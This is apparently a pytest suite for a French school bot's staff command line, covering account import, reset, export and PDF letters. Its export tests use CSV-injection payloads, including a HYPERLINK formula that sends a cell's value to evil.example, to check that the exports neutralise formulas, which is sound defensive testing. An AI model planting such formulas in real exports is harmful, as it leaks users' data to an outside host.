"""The staff command line (``run_bot.py accounts …``) on real files: a CSV, a SQLite database,
a server key, an export CSV and a PDF whose QR codes are decoded. Settings come from
environment variables, as in production; no developer ``.env`` is read (cwd is tmp_path)."""

from __future__ import annotations

import asyncio
import csv
import json
import os
import re
import stat
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pypdfium2 as pdfium
import pytest
import zxingcpp
from argon2 import PasswordHasher
from argon2.exceptions import VerifyMismatchError

from bot.cli import main
from bot.procedures.throttle import identifiant_key
from bot.security import KeyedHasher, load_or_create_server_secret, normalise_identifiant
from bot.staff.service import spreadsheet_cell
from storage.accounts import ActivationRecord, SqliteAccountDirectory
from storage.db import Database, to_db_time
from storage.sessions import ConversationSession, SessionRepository
from storage.throttle import ThrottleRepository

from support import ACCOUNTS, DATA, write_accounts_csv

BOT_USERNAME = "ent_cli_test_bot"
LINK = f"https://t.me/{BOT_USERNAME}?start=activer"


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Production-like settings through the environment, cheap argon2id, in tmp_path."""
    monkeypatch.chdir(tmp_path)
    for name in ("TELEGRAM_BOT_TOKEN", "TELEGRAM_BOT_USERNAME", "STAFF_TELEGRAM_IDS"):
        monkeypatch.delenv(name, raising=False)
    values = {
        "ENT_BOT_HOME": str(tmp_path),  # no .env there: not even the project folder's is read
        "DATABASE_PATH": str(tmp_path / "data" / "bot.sqlite3"),
        "SERVER_SECRET_FILE": str(tmp_path / "data" / "server.key"),
        "SCHOOL_CONFIG": str(DATA / "school.toml"),
        "ARGON2_TIME_COST": "1",
        "ARGON2_MEMORY_COST": "1024",
        "ARGON2_PARALLELISM": "1",
        "LOG_LEVEL": "WARNING",
    }
    for name, value in values.items():
        monkeypatch.setenv(name, value)
    return tmp_path


def run(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    """``run_bot.py args``: exit code, stdout, stderr."""
    code = main(args)
    out, err = capsys.readouterr()
    return code, out, err


def db_query(tmp_path: Path, sql: str, params: tuple[object, ...] = ()) -> list[tuple]:  # type: ignore[type-arg]
    """Rows of a query on the CLI's database."""

    async def go() -> list[tuple]:  # type: ignore[type-arg]
        database = await Database.open(tmp_path / "data" / "bot.sqlite3")
        try:
            return [tuple(row) for row in await database.fetch_all(sql, params)]
        finally:
            await database.close()

    return asyncio.run(go())


def activate(tmp_path: Path, identifiant: str, telegram_user_id: int = 4242) -> None:
    """Mark an account activated, as the bot's activation would."""

    async def go() -> None:
        database = await Database.open(tmp_path / "data" / "bot.sqlite3")
        try:
            directory = SqliteAccountDirectory(database)
            account = await directory.find(normalise_identifiant(identifiant))
            assert account is not None
            now = datetime.now(UTC)
            record = ActivationRecord(
                email="someone@example.org",
                email_verified_at=now,
                secret_question1=None,
                secret_answer1_hash=None,
                secret_question2=None,
                secret_answer2_hash=None,
                telegram_user_id=telegram_user_id,
                cgu_version="v1",
                cgu_accepted_at=now,
                activated_at=now,
            )
            password_hash = PasswordHasher(time_cost=1, memory_cost=1024).hash("Final-Pass-42")
            assert await directory.complete_activation(account.id, record, password_hash)
        finally:
            await database.close()

    asyncio.run(go())


def provisional_hash(tmp_path: Path, identifiant: str) -> str | None:
    rows = db_query(
        tmp_path,
        "SELECT provisional_password_hash FROM accounts WHERE identifiant_norm = ?",
        (identifiant,),
    )
    return rows[0][0]


def verifies(stored: str | None, password: str) -> bool:
    if stored is None:
        return False
    try:
        return PasswordHasher().verify(stored, password)
    except VerifyMismatchError:
        return False


@pytest.fixture
def imported(env: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    """The test accounts imported through the CLI."""
    path = write_accounts_csv(env / "comptes.csv", ACCOUNTS)
    code, _, _ = run(["accounts", "import", str(path)], capsys)
    assert code == 0
    return env


# --- import ---------------------------------------------------------------------------------


def test_dry_run_writes_nothing_then_import_twice_is_idempotent(
    env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write_accounts_csv(env / "comptes.csv", ACCOUNTS)
    code, out, _ = run(["accounts", "import", str(path), "--dry-run"], capsys)
    assert code == 0
    assert "essai à blanc" in out and "ajoutés :    4" in out
    assert db_query(env, "SELECT COUNT(*) FROM accounts") == [(0,)]

    code, out, _ = run(["accounts", "import", str(path)], capsys)
    assert code == 0 and "ajoutés :    4" in out
    code, out, _ = run(["accounts", "import", str(path)], capsys)
    assert code == 0 and "inchangés :  4" in out and "ajoutés :    0" in out
    assert db_query(env, "SELECT COUNT(*) FROM accounts") == [(4,)]
    assert db_query(env, "SELECT COUNT(*) FROM audit_events WHERE event = 'imported'") == [(4,)]


def test_bad_lines_are_reported_with_their_numbers(
    env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = [
        ACCOUNTS[0],
        ("", "Pw-123456", "eleve", "A", "B", "C"),  # line 3: no identifier
        ACCOUNTS[1],
        ("x.y", "Pw-123456", "astronaute", "A", "B", "C"),  # line 5: unknown profile
    ]
    path = write_accounts_csv(env / "comptes.csv", rows)
    code, out, _ = run(["accounts", "import", str(path)], capsys)
    assert code == 1
    assert "ligne 3 : identifiant vide" in out
    assert "ligne 5 : profil inconnu" in out
    assert "ajoutés :    2" in out


# --- show, history --------------------------------------------------------------------------


def test_show_text_and_json_never_a_secret(
    imported: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run(["accounts", "show", "LEA.Martin"], capsys)
    assert code == 0
    assert "lea.martin" in out and "à activer" in out and "pas commencée" in out
    code, out, _ = run(["accounts", "show", "lea.martin", "--json"], capsys)
    assert code == 0
    data = json.loads(out)
    assert data["status"] == "a_activer" and data["lock"]["locked"] is False
    assert data["step"] == "pas_commence"
    assert "$argon2" not in out and ACCOUNTS[0][1] not in out

    # An open procedure gives the step reached.
    async def open_procedure() -> None:
        database = await Database.open(imported / "data" / "bot.sqlite3")
        try:
            account = await SqliteAccountDirectory(database).find("lea.martin")
            assert account is not None
            now = datetime.now(UTC)
            await SessionRepository(database).save(
                ConversationSession(77, 77, "activation", "cgu", now, now, account_id=account.id)
            )
        finally:
            await database.close()

    asyncio.run(open_procedure())
    code, out, _ = run(["accounts", "show", "lea.martin", "--json"], capsys)
    assert json.loads(out)["step"] == "cgu"

    activate(imported, "lea.martin")
    code, out, _ = run(["accounts", "show", "lea.martin"], capsys)
    assert "actif" in out and "s*****e@example.org" in out and "lié (id 4242)" in out
    assert "someone@example.org" not in out and "$argon2" not in out

    code, out, err = run(["accounts", "show", "nobody"], capsys)
    assert code == 1 and "nobody" in err and out == ""


def test_history_lists_the_audit_trail(imported: Path, capsys: pytest.CaptureFixture[str]) -> None:
    activate(imported, "paul.durand")
    code, out, _ = run(["accounts", "history", "paul.durand"], capsys)
    assert code == 0
    assert "import" in out and "mot de passe choisi" in out
    code, out, _ = run(["accounts", "history", "paul.durand", "--json"], capsys)
    events = [event["event"] for event in json.loads(out)]
    assert events == ["imported", "password_set"]
    assert run(["accounts", "history", "nobody"], capsys)[0] == 1


# --- reset, unlock --------------------------------------------------------------------------


def test_reset_prints_a_new_provisional_password_once(
    imported: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    activate(imported, "nora.petit", telegram_user_id=5151)
    code, out, _ = run(["accounts", "reset", "Nora.Petit"], capsys)
    assert code == 0
    password = re.search(r"Nouveau mot de passe provisoire \(généré\) : (\S+)", out)
    assert password is not None
    row = db_query(
        imported,
        "SELECT status, password_hash, email, cgu_version, telegram_user_id, activated_at "
        "FROM accounts WHERE identifiant_norm = 'nora.petit'",
    )[0]
    assert row == ("a_activer", None, None, None, 5151, None)
    assert verifies(provisional_hash(imported, "nora.petit"), password.group(1))
    assert not verifies(provisional_hash(imported, "nora.petit"), ACCOUNTS[2][1])

    code, out, _ = run(["accounts", "show", "nora.petit", "--json"], capsys)
    assert password.group(1) not in out
    assert json.loads(out)["last_reset_at"] is not None

    code, out, _ = run(
        ["accounts", "reset", "nora.petit", "--mot-de-passe", "Given-Pass-7"], capsys
    )
    assert code == 0 and "(choisi)" in out
    assert verifies(provisional_hash(imported, "nora.petit"), "Given-Pass-7")
    code, _, err = run(["accounts", "reset", "nora.petit", "--mot-de-passe", "short"], capsys)
    assert code == 2 and "refusé" in err
    assert run(["accounts", "reset", "nobody"], capsys)[0] == 1

    # Re-importing the school's file does not bring the old provisional password back.
    code, out, _ = run(["accounts", "import", str(imported / "comptes.csv")], capsys)
    assert code == 0 and re.search(r"inchangés :\s+4", out), out
    assert verifies(provisional_hash(imported, "nora.petit"), "Given-Pass-7")

    code, out, _ = run(["accounts", "history", "nora.petit", "--json"], capsys)
    resets = [event for event in json.loads(out) if event["event"] == "reset"]
    assert len(resets) == 2 and all(event["actor"].startswith("cli:") for event in resets)
    assert "Given-Pass-7" not in out and password.group(1) not in out


def test_unlock_lifts_the_lock(imported: Path, capsys: pytest.CaptureFixture[str]) -> None:
    async def lock() -> None:
        database = await Database.open(imported / "data" / "bot.sqlite3")
        try:
            keyed = KeyedHasher(load_or_create_server_secret(imported / "data" / "server.key"))
            key = identifiant_key(keyed, "sam.roux")
            await ThrottleRepository(database).record_failure(key, datetime.now(UTC), lock=True)
        finally:
            await database.close()

    asyncio.run(lock())
    code, out, _ = run(["accounts", "show", "sam.roux", "--json"], capsys)
    assert json.loads(out)["lock"]["locked"] is True
    code, out, _ = run(["accounts", "unlock", "SAM.roux"], capsys)
    assert code == 0 and "débloqué" in out
    code, out, _ = run(["accounts", "show", "sam.roux", "--json"], capsys)
    assert json.loads(out)["lock"] == {
        "locked": False,
        "locked_at": None,
        "consecutive_failures": 0,
        "failures_last_24h": 0,
        "retry_after_seconds": None,
    }
    code, out, _ = run(["accounts", "history", "sam.roux"], capsys)
    assert "déblocage" in out and "[était bloqué]" in out and "was=locked" not in out
    assert run(["accounts", "unlock", "nobody"], capsys)[0] == 1


# --- export, stats --------------------------------------------------------------------------


def test_export_round_trip(imported: Path, capsys: pytest.CaptureFixture[str]) -> None:
    activate(imported, "paul.durand")
    target = imported / "etat.csv"
    code, out, _ = run(["accounts", "export", str(target)], capsys)
    assert code == 0 and "4 compte(s)" in out
    with target.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle, delimiter=";"))
    assert {row["identifiant"] for row in rows} == {account[0] for account in ACCOUNTS}
    by_id = {row["identifiant"]: row for row in rows}
    assert by_id["paul.durand"]["statut"] == "active"
    assert by_id["paul.durand"]["secours"] == "email"
    assert by_id["paul.durand"]["lie_telegram"] == "oui"
    assert by_id["lea.martin"]["statut"] == "a_activer"
    assert by_id["lea.martin"]["prenom"] == "Léa"
    assert all(row["bloque"] == "non" for row in rows)
    text = target.read_text(encoding="utf-8-sig")
    assert "$argon2" not in text and all(account[1] not in text for account in ACCOUNTS)
    assert run(["accounts", "export", str(imported / "nope" / "x.csv")], capsys)[0] == 2


PARIS = ZoneInfo("Europe/Paris")


def _paris(text: str) -> str:
    """A Paris wall-clock time as the database keeps it (UTC, see to_db_time)."""
    return to_db_time(datetime.fromisoformat(text).replace(tzinfo=PARIS))


def test_export_bytes_are_pinned(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Every kind of cell, byte for byte: formula triggers (full-width and small forms and ``|``
    too) quoted away, ``"`` doubled, ``;``
    and line breaks kept inside quotes, None as "", times in UTC cut (never rounded) to the
    second, across Paris's DST changes; the step from an open procedure, else the audit
    trail since the last reset; the lock; a Telegram id of 0 is « non »; BOM, CRLF, 0600."""
    data = env / "data"
    key = load_or_create_server_secret(data / "server.key")
    # identifiant, profil, prenom, nom, etablissement, status, e-mail verified, questions,
    # telegram id, cgu accepted, activated, imported (Paris times)
    accounts = [
        (
            "=cmd",
            "@x",
            "+1",
            "-1",
            "\tTab",
            "a_activer",
            None,
            False,
            None,
            None,
            None,
            "2026-01-01T00:30:00",
        ),
        (
            "\rcr",
            "eleve",
            'Dit "Jo"',
            "Nom;avec",
            "Ligne\nDeux",
            "a_activer",
            None,
            False,
            0,
            "2026-03-29T01:59:59.999999",
            None,
            "2026-03-29T03:00:00.000001",
        ),
        (
            "mail.q",
            "parent",
            "'t Hooft",
            "",
            "",
            "active",
            "2026-10-25T02:30:00",
            True,
            42,
            "2026-10-25T02:30:00",
            "2026-10-25T03:30:00.5",
            "2026-07-14T12:00:00",
        ),
        (
            "questions",
            "enseignant",
            "Zoé",
            "Ærø",
            "Lycée",
            "active",
            None,
            True,
            7,
            "2026-12-31T23:59:59.999999",
            "2027-01-01T00:00:00",
            "2026-12-31T23:59:59.999999",
        ),
        (
            "cgu.seule",
            "eleve",
            "Å",
            "B",
            "C",
            "a_activer",
            None,
            False,
            None,
            None,
            None,
            "2026-01-01T00:00:00",
        ),
        (  # issue 29.9: full-width and small equals signs and a leading | (added to the pin)
            "|pipe",
            "\uff1dx",
            "\ufe66SUM(A1)",
            "\uff5cy",
            "a|b",
            "a_activer",
            None,
            False,
            None,
            None,
            None,
            "2026-01-01T00:00:00",
        ),
    ]

    async def seed() -> None:
        database = await Database.open(data / "bot.sqlite3")
        try:
            async with database.transaction() as connection:
                for n, (
                    ident,
                    profil,
                    prenom,
                    nom,
                    etab,
                    status,
                    verified,
                    questions,
                    telegram,
                    cgu,
                    activated,
                    imported,
                ) in enumerate(accounts, 1):
                    await connection.execute(
                        """INSERT INTO accounts (id, identifiant, identifiant_norm, status, profil,
                               prenom, nom, etablissement, email, email_verified_at,
                               secret_answer2_hash, telegram_user_id, cgu_version,
                               cgu_accepted_at, activated_at, imported_at, updated_at)
                           VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)""",
                        (
                            n,
                            ident,
                            normalise_identifiant(ident),
                            status,
                            profil,
                            prenom,
                            nom,
                            etab,
                            "a@example.org" if verified else None,
                            _paris(verified) if verified else None,
                            "h" if questions else None,
                            telegram,
                            "v1" if cgu else None,
                            _paris(cgu) if cgu else None,
                            _paris(activated) if activated else None,
                            _paris(imported),
                            _paris(imported),
                        ),
                    )
                at = _paris("2026-01-02T00:00:00")
                await connection.execute(
                    "INSERT INTO conversation_sessions (telegram_user_id, chat_id, flow, step, "
                    "account_id, started_at, updated_at) "
                    "VALUES (9, 9, 'activation', 'email', 1, ?, ?)",
                    (at, at),
                )
                for account_id, event in (
                    (2, "cgu_accepted"),
                    (2, "reset"),
                    (2, "activation_started"),
                    (5, "cgu_accepted"),
                    (1, "questions_set"),
                ):
                    await connection.execute(
                        "INSERT INTO audit_events (at, event, account_id, actor, details) "
                        "VALUES (?, ?, ?, 't', '')",
                        (at, event, account_id),
                    )
                await connection.execute(
                    "INSERT INTO throttle (key, consecutive_failures, locked_at) VALUES (?, 9, ?)",
                    (identifiant_key(KeyedHasher(key), "\rcr"), at),
                )
        finally:
            await database.close()

    asyncio.run(seed())
    target = env / "etat.csv"
    assert run(["accounts", "export", str(target)], capsys)[0] == 0
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    lines = [
        '"identifiant";"profil";"prenom";"nom";"etablissement";"statut";"etape";"importe_le";'
        '"active_le";"cgu_acceptees_le";"secours";"lie_telegram";"bloque"',
        '"\'=cmd";"\'@x";"\'+1";"\'-1";"\'\tTab";"a_activer";"email";"2025-12-31T23:30:00Z";'
        '"";"";"";"non";"non"',
        '"cgu.seule";"eleve";"Å";"B";"C";"a_activer";"choix_secours";"2025-12-31T23:00:00Z";'
        '"";"";"";"non";"non"',
        '"\'\rcr";"eleve";"Dit ""Jo""";"Nom;avec";"Ligne\nDeux";"a_activer";"cgu";'
        '"2026-03-29T01:00:00Z";"";"2026-03-29T00:59:59Z";"";"non";"oui"',
        '"mail.q";"parent";"\'t Hooft";"";"";"active";"active";"2026-07-14T10:00:00Z";'
        '"2026-10-25T02:30:00Z";"2026-10-25T00:30:00Z";"email";"oui";"non"',
        '"questions";"enseignant";"Zoé";"Ærø";"Lycée";"active";"active";"2026-12-31T22:59:59Z";'
        '"2026-12-31T23:00:00Z";"2026-12-31T22:59:59Z";"questions";"oui";"non"',
        # issue 29.9: the one line added to the pin; the lines above are unchanged.
        '"\'|pipe";"\'\uff1dx";"\'\ufe66SUM(A1)";"\'\uff5cy";"a|b";"a_activer";"pas_commence";'
        '"2025-12-31T23:00:00Z";"";"";"";"non";"non"',
    ]
    assert target.read_bytes() == "".join(line + "\r\n" for line in lines).encode("utf-8-sig")


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'


def test_export_neutralises_formulas_and_round_trips(
    env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """OWASP « CSV Injection »: a cell starting with = + - @ (tab, CR) gets a leading quote,
    so a spreadsheet shows it as text; removing that one quote gives the stored value back."""
    rows = [
        ("eve.attaque", "Xq7-Tb4k-Wpz", "eleve", FORMULA, "+33 6 12", "@SUM(A1:A9)"),
        ("-cmd.x", "Rm2-Hv8n-Zcw", "parent", "'t Hooft", "=1+1;=2", "Lycée; « test »"),
    ]
    assert run(["accounts", "import", str(write_accounts_csv(env / "c.csv", rows))], capsys)[0] == 0
    target = env / "etat.csv"
    assert run(["accounts", "export", str(target)], capsys)[0] == 0
    with target.open(encoding="utf-8-sig", newline="") as handle:
        exported = {row["prenom"]: row for row in csv.DictReader(handle, delimiter=";")}
    eve = exported["'" + FORMULA]
    assert (eve["identifiant"], eve["nom"], eve["etablissement"]) == (
        "eve.attaque",
        "'+33 6 12",
        "'@SUM(A1:A9)",
    )
    other = exported["'t Hooft"]  # a leading quote that is part of the name is left alone
    assert (other["identifiant"], other["nom"], other["etablissement"]) == (
        "'-cmd.x",
        "'=1+1;=2",
        "Lycée; « test »",
    )
    originals = {cell for row in rows for cell in row}
    for row in exported.values():
        for column in ("identifiant", "prenom", "nom", "etablissement"):
            value = row[column]
            restored = value[1:] if value[:2] in {"'=", "'+", "'-", "'@"} else value
            assert restored in originals
    raw = target.read_text(encoding="utf-8-sig")
    assert not any(line.startswith(("=", "+", "-", "@")) for line in raw.splitlines())
    assert all(line.startswith('"') and line.endswith('"') for line in raw.splitlines())


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("", ""),
        ("Léa", "Léa"),
        ("a=b", "a=b"),
        ("'t Hooft", "'t Hooft"),
        ("2026-01-02 03:04", "2026-01-02 03:04"),
        ("\uff1d1+1", "'\uff1d1+1"),  # ＝ full-width
        ("\ufe66A1", "'\ufe66A1"),  # ﹦ small
        ("\uff0b1", "'\uff0b1"),  # ＋
        ("\ufe63x", "'\ufe63x"),  # ﹣
        ("\uff20A1", "'\uff20A1"),  # ＠
        ("|cmd", "'|cmd"),
        ("\uff5ccmd", "'\uff5ccmd"),  # ｜
        ("a|b", "a|b"),
        ("\u00e9=", "\u00e9="),
    ],
)
def test_spreadsheet_cell(cell: str, written: str) -> None:
    assert spreadsheet_cell(cell) == written


def test_an_export_is_not_an_import_file(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The export has no provisional password column: importing it is refused as a whole, so
    its quote prefixes never reach the accounts."""
    line = ("eve.x", "Xq7-Tb4k-Wpz", "eleve", FORMULA, "N", "E")
    path = write_accounts_csv(env / "c.csv", [line])
    assert run(["accounts", "import", str(path)], capsys)[0] == 0
    target = env / "etat.csv"
    assert run(["accounts", "export", str(target)], capsys)[0] == 0
    code, _, err = run(["accounts", "import", str(target)], capsys)
    assert code == 2 and "mot_de_passe_provisoire" in err


def test_stats_funnel(imported: Path, capsys: pytest.CaptureFixture[str]) -> None:
    activate(imported, "paul.durand")
    code, out, _ = run(["accounts", "stats", "--json"], capsys)
    assert code == 0
    data = json.loads(out)
    assert data["total"] == {
        "imported": 4,
        "started": 1,
        "cgu_accepted": 1,
        "recovery_set": 1,
        "active": 1,
    }
    assert data["par_profil"]["maitre_apprentissage"]["active"] == 1
    assert data["par_etablissement"]["Lycée de Test"]["imported"] == 4
    code, out, _ = run(["accounts", "stats"], capsys)
    assert "Importés : 4 (100 %)" in out and "Actifs : 1 (25 %)" in out


# --- letters --------------------------------------------------------------------------------


def pdf_pages(path: Path) -> list[tuple[str, list[str]]]:
    """(text, decoded QR codes) of every page."""
    document = pdfium.PdfDocument(path)
    pages = []
    try:
        for page in document:
            text = page.get_textpage().get_text_range()
            image = page.render(scale=2).to_pil()
            codes = [barcode.text for barcode in zxingcpp.read_barcodes(image)]
            pages.append((text, codes))
    finally:
        document.close()
    return pages


def test_letters_one_page_per_account_to_activate_with_a_working_password(
    imported: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    activate(imported, "paul.durand")
    target = imported / "courriers.pdf"

    # No bot name known: refused before anything changes.
    code, _, err = run(["accounts", "letters", str(target), "--yes"], capsys)
    assert code == 2 and "TELEGRAM_BOT_USERNAME" in err

    monkeypatch.setenv("TELEGRAM_BOT_USERNAME", BOT_USERNAME)
    # Not confirmed (no terminal): nothing changes.
    before = provisional_hash(imported, "lea.martin")
    monkeypatch.setattr("builtins.input", lambda prompt: "n")
    code, out, _ = run(["accounts", "letters", str(target)], capsys)
    assert code == 1 and not target.exists()
    assert provisional_hash(imported, "lea.martin") == before

    code, out, _ = run(["accounts", "letters", str(target), "--yes"], capsys)
    assert code == 0 and "3 courrier(s)" in out
    pages = pdf_pages(target)
    assert len(pages) == 3  # paul.durand is active: no letter
    hashes = {
        row[0]: row[1]
        for row in db_query(imported, "SELECT identifiant, provisional_password_hash FROM accounts")
    }
    seen = set()
    for text, codes in pages:
        # Each letter's own QR code (its token); the printed link is the generic one.
        assert len(codes) == 1 and re.fullmatch(rf"{re.escape(LINK[:-7])}c_[\w-]{{24}}", codes[0])
        assert "t.me/" in text
        identifiant = re.search(r"Identifiant\s*\n(\S+)", text)
        password = re.search(r"Mot de passe provisoire\s*\n(\S+)", text)
        assert identifiant and password
        seen.add(identifiant.group(1))
        assert verifies(hashes[identifiant.group(1)], password.group(1))
        assert password.group(1) not in codes[0]
        assert "$argon2" not in text
    assert seen == {"lea.martin", "nora.petit", "sam.roux"}
    assert db_query(imported, "SELECT COUNT(*) FROM audit_events WHERE event = 'letter'") == [(3,)]
    # The old letters' passwords no longer work.
    assert not verifies(provisional_hash(imported, "lea.martin"), ACCOUNTS[0][1])

    code, out, _ = run(
        ["accounts", "letters", str(target), "--yes", "--profil", "Apprenti"], capsys
    )
    assert code == 0
    assert len(pdf_pages(target)) == 1
    code, out, _ = run(
        ["accounts", "letters", str(target), "--yes", "--etablissement", "ailleurs"], capsys
    )
    assert code == 0 and "Aucun compte" in out


# --- staff messages (issue 14): French, short, saying what to do ------------------------------


def test_usage_errors_are_one_french_line(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for args, expected in (
        (["accounts"], "il manque : COMMANDE"),
        (["astronaute"], "choix inconnu 'astronaute'"),
        (["accounts", "show"], "il manque : identifiant"),
        (["accounts", "stats", "--bavard"], "arguments inconnus : --bavard"),
    ):
        with pytest.raises(SystemExit) as stopped:
            main(args)
        assert stopped.value.code == 2
        err = capsys.readouterr().err
        assert expected in err and "--help" in err, err
        assert "error" not in err and "usage:" not in err and "required" not in err
    with pytest.raises(SystemExit):
        main(["accounts", "--help"])
    out = capsys.readouterr().out
    assert out.startswith("usage : ") and "afficher cette aide" in out


@pytest.mark.parametrize(
    "command",
    [
        ["accounts", "import"],
        ["accounts", "export"],
        ["accounts", "letters"],
        ["accounts", "reset"],
        ["backup"],
    ],
)
def test_help_names_arguments_in_french(
    command: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    """``--help`` and a missing argument say FICHIER, MOT_DE_PASSE (issue 22.16); the argument
    is still given the same way (the other tests pass it by position)."""
    with pytest.raises(SystemExit):
        main([*command, "--help"])
    out = capsys.readouterr().out
    assert not re.search(r"\b(file|PASSWORD)\b", out), out
    if command != ["accounts", "reset"]:
        assert "FICHIER" in out
        with pytest.raises(SystemExit):
            main(command)
        assert "il manque : FICHIER" in capsys.readouterr().err


def test_history_details_are_french(imported: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(["accounts", "history", "lea.martin"], capsys)
    assert code == 0 and "import — " in out and "[ajouté]" in out and "[added]" not in out
    code, out, _ = run(["accounts", "history", "lea.martin", "--json"], capsys)
    assert '"added"' in out  # the machine-readable trail keeps the stored words


def test_an_unknown_profile_lists_the_profiles(
    imported: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TELEGRAM_BOT_USERNAME", BOT_USERNAME)
    target = imported / "courriers.pdf"
    code, _, err = run(["accounts", "letters", str(target), "--profil", "astronaute"], capsys)
    assert code == 2 and "Profil inconnu : « astronaute »" in err
    assert "apprenti" in err and "maitre_apprentissage" in err and "Unknown" not in err
    code, _, err = run(["accounts", "export", str(imported / "nulle-part" / "x.csv")], capsys)
    assert code == 2 and "Dossier introuvable" in err


def test_unlock_of_an_account_that_is_not_locked_writes_nothing(
    imported: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run(["accounts", "unlock", "nora.petit"], capsys)
    assert code == 0 and "n'est pas bloqué : rien à faire" in out and "0 échec" not in out
    code, out, _ = run(["accounts", "history", "nora.petit"], capsys)
    assert "déblocage" not in out


def test_letters_are_headed_by_the_account_s_establishment(
    env: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = [
        ("ines.roy", "Pv4-Lm8k-Qrt", "eleve", "Inès", "Roy", "Lycée Exemple"),
        ("tom.gris", "Kd2-Wq7n-Zxc", "apprenti", "Tom", "Gris", ""),
    ]
    code, _, _ = run(["accounts", "import", str(write_accounts_csv(env / "c.csv", rows))], capsys)
    assert code == 0
    monkeypatch.setenv("TELEGRAM_BOT_USERNAME", BOT_USERNAME)
    target = env / "courriers.pdf"
    assert run(["accounts", "letters", str(target), "--yes"], capsys)[0] == 0
    texts_by_account = {
        re.search(r"Identifiant\s*\n(\S+)", text).group(1): text  # type: ignore[union-attr]
        for text, _ in pdf_pages(target)
    }
    assert "Lycée Exemple" in texts_by_account["ines.roy"]
    assert "Lycée de Test" not in texts_by_account["ines.roy"]
    assert "Lycée de Test" in texts_by_account["tom.gris"]  # none in the CSV: the school's


@pytest.mark.parametrize("command", [["import", "x.csv"]])
def test_ldap_mode_refuses_writing_provisional_passwords(
    env: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    command: list[str],
) -> None:
    monkeypatch.setenv("DIRECTORY", "ldap")
    assert main(["accounts", *command]) == 2
    error = capsys.readouterr().err
    assert "annuaire LDAP" in error
    assert not (env / "data" / "bot.sqlite3").exists()


def test_letters_never_use_the_example_school(
    imported: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Letters headed « CFA Exemple » were printed when the school file was missing."""
    monkeypatch.setenv("TELEGRAM_BOT_USERNAME", BOT_USERNAME)
    monkeypatch.setenv("SCHOOL_CONFIG", str(imported / "nulle-part.toml"))
    target = imported / "courriers.pdf"
    code, _, err = run(["accounts", "letters", str(target), "--yes"], capsys)
    assert code == 2 and "nulle-part.toml" in err and not target.exists()


# --- private files and the server key ------------------------------------------------------


@pytest.fixture
def open_umask() -> Iterator[None]:
    """The common umask 022: files others can read unless the code says otherwise."""
    previous = os.umask(0o022)
    yield
    os.umask(previous)


def test_export_and_letters_are_readable_by_their_owner_only(
    imported: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    open_umask: None,
) -> None:
    """They name every account, and the letters carry provisional passwords: 0600, an existing
    file of that name tightened too."""
    export = imported / "etat.csv"
    export.write_text("ancien", encoding="utf-8")
    export.chmod(0o644)
    assert run(["accounts", "export", str(export)], capsys)[0] == 0
    assert stat.S_IMODE(export.stat().st_mode) == 0o600
    assert "lea.martin" in export.read_text(encoding="utf-8-sig")

    monkeypatch.setenv("TELEGRAM_BOT_USERNAME", BOT_USERNAME)
    letters = imported / "courriers.pdf"
    assert run(["accounts", "letters", str(letters), "--yes"], capsys)[0] == 0
    assert stat.S_IMODE(letters.stat().st_mode) == 0o600
    assert len(pdf_pages(letters)) == 4


def test_import_refuses_a_new_key_beside_accounts(
    imported: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A missing key while the database has accounts: refused (as at start-up), never made
    anew — it would void every code, lock and import fingerprint."""
    key = imported / "data" / "server.key"
    key.unlink()
    csv_file = write_accounts_csv(imported / "comptes2.csv", ACCOUNTS)
    for extra in ([], ["--dry-run"]):
        code, out, err = run(["accounts", "import", str(csv_file), *extra], capsys)
        assert code == 2 and out == ""
        assert str(key) in err and "contient déjà des comptes" in err
        assert len(err.strip().splitlines()) == 1
        assert not key.exists()


# --- issue 22.14 ----------------------------------------------------------------------------


def test_show_gives_the_cgu_accepted_during_an_open_procedure(
    imported: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    async def accept_in_procedure() -> None:
        database = await Database.open(imported / "data" / "bot.sqlite3")
        try:
            account = await SqliteAccountDirectory(database).find("lea.martin")
            assert account is not None
            now = datetime.now(UTC)
            session = ConversationSession(
                77, 77, "activation", "choix_secours", now, now, account_id=account.id
            )
            await SessionRepository(database).save(session)
            async with database.transaction() as connection:
                await connection.execute(
                    "INSERT INTO audit_events (at, event, account_id, actor, details) "
                    "VALUES ('2026-03-01T09:30:00.000000Z', 'cgu_accepted', ?, 'telegram', '')",
                    (account.id,),
                )
        finally:
            await database.close()

    asyncio.run(accept_in_procedure())
    code, out, _ = run(["accounts", "stats", "--json"], capsys)
    assert json.loads(out)["total"]["cgu_accepted"] == 1
